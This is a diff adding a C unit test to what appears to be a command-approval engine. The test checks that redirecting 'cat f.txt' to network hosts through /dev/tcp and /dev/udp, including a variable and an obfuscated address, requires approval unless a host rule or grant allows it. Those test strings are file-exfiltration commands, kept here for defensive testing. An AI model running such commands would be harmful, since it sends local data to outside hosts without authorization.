@@ -370,6 +370,26 @@ TEST(a_file_tool_has_a_grant_for_where_a_link_leads)
 	CHECK(judge(&h, args) == APPROVAL_DECISION_ASK);
 }
 
+TEST(the_host_of_a_redirection_is_not_a_matter_of_the_words)
+{
+	HAND;
+
+	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]}]");
+	CHECK(judge_line(&h, "cat f.txt") == APPROVAL_DECISION_ALLOW);
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
+	CHECK(judge_line(&h, "cat f.txt > /dev/udp/192.0.2.7/80") == APPROVAL_DECISION_ASK);
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/$h/80") == APPROVAL_DECISION_ASK);
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/0x7f.1/80") == APPROVAL_DECISION_ASK);
+	use_rules(&h, "[{\"effect\":\"allow\",\"command\":[\"cat\",\"f.txt\"]},"
+	              "{\"effect\":\"allow\",\"host\":\"192.0.2.7\"}]");
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.8/80") == APPROVAL_DECISION_ASK);
+	h.settings.rules = NULL;
+	CHECK(grant_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80"));
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.7/80") == APPROVAL_DECISION_ALLOW);
+	CHECK(judge_line(&h, "cat f.txt > /dev/tcp/192.0.2.8/80") == APPROVAL_DECISION_ASK);
+}
+
 TEST(the_files_of_a_process_are_not_those_of_the_runtime)
 {
 	static const char *const unknown[] = {
